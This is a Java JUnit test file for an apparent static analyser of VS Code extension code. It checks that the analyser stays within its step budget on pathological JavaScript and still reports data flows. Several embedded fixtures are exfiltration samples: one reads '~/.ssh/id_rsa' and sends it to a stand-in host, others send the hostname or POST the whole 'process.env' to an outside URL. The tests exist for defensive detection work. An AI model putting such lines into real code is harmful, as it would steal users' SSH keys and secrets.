package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** What made the analysis of real bundles expensive, end early or say too much; each as small as it can be. */
class LargeProgramsTest {

    private static final long STEPS = 200_000;

    @Test
    void listenersThatFireOneAnotherWithNothingDoNotUseUpTheWork() {
        Analysis analysis = Analysis.ofActivate("""
                const emitters = [];
                for (let i = 0; i < 40; i++) emitters.push(new vscode.EventEmitter());
                for (const emitter of emitters) {
                  for (const other of emitters) emitter.event(() => { if (Math.random() > 0.5) other.fire(undefined); });
                }
                emitters[0].fire(undefined);
                """, STEPS);

        assertThat(analysis.result().gaps()).isEmpty();
    }

    @Test
    void aLoopThatWaitsForAnAnswerThatRepeatsIsLeft() {
        Analysis analysis = Analysis.ofActivate("""
                class Scanner {
                  constructor() { this.at = 0; this.token = { type: 'start' }; }
                  scan() {
                    for (let i = 0; i < 100; i++) this.at += Math.random();
                    return { type: 'other' };
                  }
                  resync() { for (;;) { if (this.token.type === 'end') return; this.token = this.scan(); } }
                }
                new Scanner().resync();
                fs.readFileSync('/home/u/.ssh/id_rsa');
                """, 2_000_000);

        assertThat(analysis.result().gaps()).isEmpty();
    }

    @Test
    void anIteratorThatGivesItselfOrAnotherEnds() {
        Analysis analysis = Analysis.ofActivate("""
                const turning = { [Symbol.iterator]() { return Math.random() > 0.5 ? turning : [other, turning][fs.x]; } };
                const other = { [Symbol.iterator]() { return [turning, other][fs.y]; } };
                for (const each of turning) console.log(each);
                https.get('https://after.example/' + fs.readFileSync('/home/u/.ssh/id_rsa'));
                """);

        assertThat(analysis.result().gaps()).isEmpty();
        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-url");
    }

    @Test
    void anAccessorKeepsItsGetterWhenItIsOnlyShownToEnumeration() {
        Analysis analysis = Analysis.ofActivate("""
                class Socket { get ready() { return this.state === 1; } open() { this.state = 1; } }
                ['ready'].forEach(name => Object.defineProperty(Socket.prototype, name, { enumerable: true }));
                const socket = new Socket();
                socket.open();
                if (socket.ready) https.get('https://far.example/' + os.hostname());
                """);

        assertThat(analysis.flowNames()).contains("account-identity -> network-url");
    }

    @Test
    void anAddressFromADocumentDoesNotPointWhereAnotherDoes() {
        Analysis analysis = Analysis.ofActivate("""
                const load = address => fetch(address);
                vscode.workspace.onDidOpenTextDocument(document => {
                  const named = /"schema": "([^"]*)"/.exec(document.getText());
                  load(Math.random() > 0.5 ? 'https://fixed.example/schema' : named[1]);
                });
                """);

        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-host");
        assertThat(analysis.destinations("editor-document", "network-host"))
                .doesNotContain("https://fixed.example/schema");
    }

    @Test
    void aDocumentThatReadsLikeAProgramAndIsNoneIsNoGap() {
        Analysis analysis = Analysis.ofDocument("README.md", "const a = require('a');\n```\nUse it (so: ) well.\n");

        assertThat(analysis.result().gaps()).isEmpty();
    }

    @Test
    void listsOfListsThatMayBeOneOrAnotherAreWrittenInFewSteps() {
        Analysis analysis = Analysis.ofActivate("""
                let list = [os.hostname()];
                for (let i = 0; i < 40; i++) {
                  const one = [list, 'a' + i], other = [list, 'b' + i];
                  list = Math.random() > 0.5 ? one : other;
                }
                https.get('https://far.example/' + [list, list].join('-'));
                """, STEPS);

        assertThat(analysis.result().gaps()).isEmpty();
        assertThat(analysis.flowNames()).contains("account-identity -> network-url");
    }

    @Test
    void argumentsThatHoldOneAnotherHaveATextAllTheSame() {
        Analysis analysis = Analysis.ofActivate("""
                const list = [], options = { href: list, url: list, path: list, host: list, hostname: 'far.example' };
                list.push(options, options, options, options);
                fetch(list);
                fetch(options, { method: 'POST', body: JSON.stringify(process.env) });
                """);

        assertThat(analysis.flowNames()).contains("environment -> network-send");
        assertThat(analysis.result().gaps()).isEmpty();
    }
}
